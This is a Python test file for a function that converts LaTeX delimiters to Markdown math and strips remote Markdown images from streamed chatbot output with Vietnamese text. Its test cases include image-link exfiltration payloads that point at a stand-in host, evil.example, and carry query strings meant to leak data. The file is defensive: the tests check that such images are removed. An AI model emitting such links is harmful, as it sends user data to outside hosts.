"""LaTeX delimiters become the $ / $$ that st.markdown renders, also on text still being streamed."""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.formatting import latex_to_markdown


@pytest.mark.parametrize(("text", "expected"), [
    (r"Ta có \(x^2 \ge 0\) với mọi x.", r"Ta có $x^2 \ge 0$ với mọi x."),
    (r"\[\int_0^1 x^2\,dx = \frac{1}{3}\]", r"$$\int_0^1 x^2\,dx = \frac{1}{3}$$"),
    ("Công thức:\n\\[\n  a^2 + b^2 = c^2\n\\]\nxong.", "Công thức:\n$$a^2 + b^2 = c^2$$\nxong."),
    (r"\(a\) và \(b\), rồi \[c\]", r"$a$ và $b$, rồi $$c$$"),
    (r"$x$ và $$y$$ giữ nguyên", r"$x$ và $$y$$ giữ nguyên"),
    (r"\[\begin{pmatrix} 1 \\[2pt] 2 \end{pmatrix}\]", r"$$\begin{pmatrix} 1 \\[2pt] 2 \end{pmatrix}$$"),
    ("không có công thức", "không có công thức"),
    ("", ""),
])
def test_converts_complete_text(text: str, expected: str) -> None:
    assert latex_to_markdown(text) == expected


@pytest.mark.parametrize("partial", [
    "Ta có \\",
    r"Ta có \(",
    r"Ta có \(x^2",
    "Ta có \\(x^2 \\ge 0\\",
    r"Tích phân \[\int_0^1",
    "Tích phân \\[\\int_0^1 x\\,dx \\",
])
def test_unclosed_delimiters_are_left_as_written(partial: str) -> None:
    assert latex_to_markdown(partial) == partial


def test_closed_part_converts_while_the_rest_streams() -> None:
    assert latex_to_markdown(r"\(a\) rồi \(b") == r"$a$ rồi \(b"
    assert latex_to_markdown(r"\[a\] rồi \[b") == r"$$a$$ rồi \[b"


def test_every_prefix_of_a_stream_is_safe_and_the_whole_converts() -> None:
    text = r"Vì \(f'(x) > 0\) nên \[\int_0^1 f(x)\,dx > 0\] [1]."
    for end in range(len(text) + 1):
        shown = latex_to_markdown(text[:end])
        assert shown.count("$") % 2 == 0, (end, shown)
    assert latex_to_markdown(text) == r"Vì $f'(x) > 0$ nên $$\int_0^1 f(x)\,dx > 0$$ [1]."


def test_escaped_backslash_is_not_a_delimiter() -> None:
    assert latex_to_markdown(r"a \\(b\\) c") == r"a \\(b\\) c"


# --- no image is fetched from a URL ----------------------------------------------------------------------------------

def images_in(markdown: str) -> list[str]:
    """The src of every image a CommonMark renderer (as Streamlit's) would show for this Markdown."""
    def walk(tokens: list) -> list[str]:
        found = []
        for token in tokens:
            if token.type == "image":
                found.append(token.attrs.get("src", ""))
            found += walk(token.children or [])
        return found

    return walk(MarkdownIt("commonmark").parse(markdown))


@pytest.mark.parametrize("text", [
    "![](http://evil.example/?q=bi-mat-cua-hoc-sinh)",
    "Xem hình ![đồ thị](https://evil.example/g.png \"tiêu đề\") bên dưới",
    "![a](<http://evil.example/a b.png>)",
    "![a](http://evil.example/a_(1).png)",
    "![a][ref]\n\n[ref]: http://evil.example/r.png",
    "![ref]\n\n[ref]: http://evil.example/r.png",
    "![ref][]\n\n[ref]: http://evil.example/r.png",
    "[![a](http://evil.example/in-link.png)](http://example.org)",
    "![a [b] c](http://evil.example/nested.png)",
    "![đa\ndòng](http://evil.example/multiline.png)",
    "\\\\![a](http://evil.example/after-escaped-backslash.png)",
    "![x](//evil.example/protocol-relative.png)",
    "![x](images/relative.png)",
    r"\(x\)![x](http://evil.example/after-math.png)",
])
def test_no_image_with_a_url_survives(text: str) -> None:
    assert images_in(text), "the case must be an image to begin with"
    shown = latex_to_markdown(text)
    assert images_in(shown) == []
    assert "bi-mat" not in shown


def test_a_remote_image_becomes_plain_text_naming_its_host() -> None:
    shown = latex_to_markdown("Hình: ![đồ thị](https://img.example.org/a/b.png?q=du-lieu) hết.")
    assert shown.startswith("Hình: ") and shown.endswith(" hết.")
    assert "img\\.example\\.org/…" in shown and "hình ảnh" in shown and "du-lieu" not in shown
    rendered = MarkdownIt("commonmark").render(shown)
    assert "[hình ảnh: img.example.org/…]" in rendered and "<a " not in rendered and "<img" not in rendered


def test_data_images_and_ordinary_text_are_kept() -> None:
    data = "![chấm đỏ](data:image/png;base64,iVBORw0KGgo=)"
    assert latex_to_markdown(data) == data
    assert images_in(latex_to_markdown(data)) == ["data:image/png;base64,iVBORw0KGgo="]
    for text in ("Chú ý! [1] là nguồn", "n! = 1·2·…·n", "\\![không phải ảnh](http://example.org)", "[liên kết](http://example.org)"):
        assert latex_to_markdown(text) == text


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(list("![]()<>\\ \n\"'`:/ax") + ["http://e.x/", "data:", "[r]: http://e.x/r\n"]),
                max_size=40).map("".join))
def test_no_markdown_made_of_image_syntax_yields_a_remote_image(text: str) -> None:
    assert [src for src in images_in(latex_to_markdown(text)) if not src.startswith("data:")] == []


def test_every_prefix_of_a_streamed_image_is_safe() -> None:
    text = "Đây là ![ảnh](http://evil.example/leak?q=abc) và tiếp"
    for end in range(len(text) + 1):
        assert images_in(latex_to_markdown(text[:end])) == []
